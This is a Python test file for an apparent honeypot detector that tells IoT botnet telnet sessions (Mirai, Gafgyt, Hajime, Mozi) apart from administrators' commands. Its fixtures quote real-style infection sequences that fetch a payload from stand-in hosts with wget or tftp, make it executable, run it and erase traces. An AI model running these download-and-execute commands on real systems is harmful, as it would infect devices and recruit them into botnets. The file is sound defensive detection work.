"""Bots are told by what they type, and administrators are not taken for bots."""

import json
import re
from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from botwarden.detect.shell import (
    FAMILY_POINTS,
    MAX_COMMANDS,
    MAX_FOUND,
    MAX_LENGTH,
    SHAPES,
    STRONG_POINTS,
    WEAK_POINTS,
    read_commands,
)
from detect.traffic import SHARED

MIRAI = (
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
    ">/var/.nippon; cd /var/",
    "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
    "/bin/busybox cat /bin/echo",
    "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
    "/bin/busybox wget http://203.0.113.5:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
)
GAFGYT = (
    "sh",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.146/bins.sh; chmod 777 bins.sh; "
    "sh bins.sh; tftp 198.51.100.146 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh *",
)
HAJIME = (
    "enable",
    "shell",
    "sh",
    "cat /proc/mounts; /bin/busybox QWKRT",
    "cd /var; (cat .s || cp /bin/echo .s); /bin/busybox QWKRT",
    "nc; wget; /bin/busybox QWKRT",
    "(dd bs=52 count=1 if=.s || cat .s)",
    ">.s; cp .s .i; ./.s>.i; chmod +x .i; ./.i; rm .s",
)
MOZI = (
    "/bin/busybox MOZI",
    "wget http://198.51.100.9:43201/Mozi.m -O /tmp/Mozi.m; chmod 777 /tmp/Mozi.m; /tmp/Mozi.m telnet",
    "iptables -I INPUT -p tcp --destination-port 35000 -j DROP",
)


@pytest.mark.parametrize(
    ("commands", "family"), [(MIRAI, "Mirai"), (GAFGYT, "Gafgyt"), (HAJIME, "Hajime"), (MOZI, "Mozi")]
)
def test_bots_are_known_by_what_they_type(commands: tuple[str, ...], family: str) -> None:
    reading = read_commands(commands)
    assert reading.strong
    assert reading.family == family


@pytest.mark.parametrize("commands", [
    MIRAI[:5],
    GAFGYT[1:],
    ("cd /tmp; wget http://198.51.100.7/x86; chmod +x x86; ./x86 telnet; rm -rf x86; history -c",),
    ("echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > retrieve; chmod 777 retrieve",),
    ("echo -e '\\147\\141\\171\\146\\147\\164'",),
    (">/mnt/.ptmx && cd /mnt/", ">/var/.ptmx && cd /var/", "cat /proc/mounts", "cat /bin/ls"),
])  # fmt: skip
def test_pieces_of_them_are_enough(commands: tuple[str, ...]) -> None:
    assert read_commands(commands).points >= STRONG_POINTS


@pytest.mark.parametrize("commands", [
    (),
    ("status", "disk", "exit"),
    ("enable", "show running-config", "configure terminal", "exit"),
    ("enable", "system", "view"),
    ("ls -la", "cat /proc/cpuinfo", "cat /proc/mounts", "df", "free", "top", "ifconfig", "reboot"),
    ("cd /tmp", "wget http://192.168.1.5/firmware.bin", "chmod +x firmware.bin", "./firmware.bin"),
    ("cd /tmp; wget http://192.168.1.5/tool; chmod 777 tool; ./tool; rm -f tool; cat /proc/mounts",),
    ("wget https://example.com/install.sh; chmod 777 install.sh; sh install.sh; rm -rf install.sh",),
    ("busybox", "busybox --help", "busybox ls", "/bin/busybox wget http://192.168.1.5/x", "busybox sh"),
    ("echo hello > /tmp/test", "vi /etc/config", "killall -HUP inetd", "iptables -L"),
    ("tftp -g -r image.bin 192.168.1.5", "md5sum image.bin", "flashcp image.bin /dev/mtd0"),
])  # fmt: skip
def test_administrators_are_no_bots(commands: tuple[str, ...]) -> None:
    assert read_commands(commands).points < STRONG_POINTS


def test_a_plain_day_is_not_even_suspicious() -> None:
    assert read_commands(("ls", "cat /proc/cpuinfo", "ps", "exit")).points == 0 < WEAK_POINTS
    assert read_commands(()).family is None


def test_urls_addresses_and_tokens_are_found_once() -> None:
    reading = read_commands((*GAFGYT, *GAFGYT, "ping 127.0.0.1; ping 1.2.3.4.5; ping 300.1.1.1"), ("PEDO",))
    assert reading.urls == ("http://198.51.100.146/bins.sh",)
    assert reading.hosts == ("198.51.100.146",)
    assert reading.tokens == ("PEDO",)


@pytest.mark.parametrize(
    ("word", "least", "below"),
    [
        ("ECCHI", STRONG_POINTS, 9),
        ("Switchblades1", STRONG_POINTS, 9),
        ("2FxRRSt9", STRONG_POINTS, 9),
        ("wgte", WEAK_POINTS, STRONG_POINTS),  # may be a person's slip
        ("lizrd", WEAK_POINTS, STRONG_POINTS),
        ("hostname PBOC", WEAK_POINTS, STRONG_POINTS),
        ("ps", 0, 0.1),
        ("telnetd", 0, 0.1),
    ],
)
def test_a_word_that_busybox_does_not_know_tells_by_how_odd_it_is(word: str, least: float, below: float) -> None:
    assert least <= read_commands([f"/bin/busybox {word}"]).points < below
    assert read_commands((), [word]).points == 0
    assert read_commands(["enable", "shell", "sh", f"/bin/busybox {word}"]).strong == (least > 0)


def test_a_mark_of_mirai_alone_names_no_family_that_has_too_little_of_its_own() -> None:
    assert read_commands(("cat /proc/mounts",)).family is None
    assert FAMILY_POINTS > 1


def test_shapes_have_names_of_their_own() -> None:
    assert len({shape.name for shape in SHAPES}) == len(SHAPES)
    assert all(0 < shape.points <= STRONG_POINTS for shape in SHAPES)


@given(st.lists(st.text(max_size=400), max_size=50), st.lists(st.text(max_size=400), max_size=50))
def test_any_text_is_digested(commands: list[str], tokens: list[str]) -> None:
    reading = read_commands(commands, tokens)
    assert reading.points >= 0
    assert max(len(reading.urls), len(reading.hosts), len(reading.tokens)) <= MAX_FOUND


@pytest.mark.parametrize(
    "piece", ["wget ", "tftp ftpget ", ">/a", "\\x41", "; ", "busybox A", "1.", "iptables port 23 "]
)
def test_what_lies_beyond_the_limits_is_not_looked_at(piece: str) -> None:
    """Whoever types a megabyte does not choose how long this takes."""
    long = piece * 100_000
    assert read_commands([long]) == read_commands([long[:MAX_LENGTH]])
    many = [long] * 1000
    assert read_commands(many) == read_commands(many[:MAX_COMMANDS])


def test_every_pattern_is_bounded() -> None:
    """No repetition without an upper limit, next to which another one could make it quadratic."""
    for shape in SHAPES:
        pattern = re.sub(r"\\.", "", shape.pattern.pattern)
        assert not re.search(r"[*+]|,\}", pattern.replace("+x", "")), shape.name


def test_the_tokens_of_a_year_of_real_logins_are_a_bots() -> None:
    folder = SHARED / "telnet_sessions"
    if not folder.is_dir():
        pytest.skip(f"{folder} is not here")
    tokens = Counter(
        json.loads(line).get("token", "")
        for path in sorted(folder.iterdir())
        for line in path.read_text().splitlines()
        if line
    )
    del tokens["<unknown>"]
    enough = {token for token in tokens if read_commands([f"/bin/busybox {token}"]).strong}
    assert sum(n for token, n in tokens.items() if token in enough) > 0.85 * tokens.total()
    assert all(read_commands(["enable", "shell", "sh", f"/bin/busybox {token}"]).strong for token in tokens)
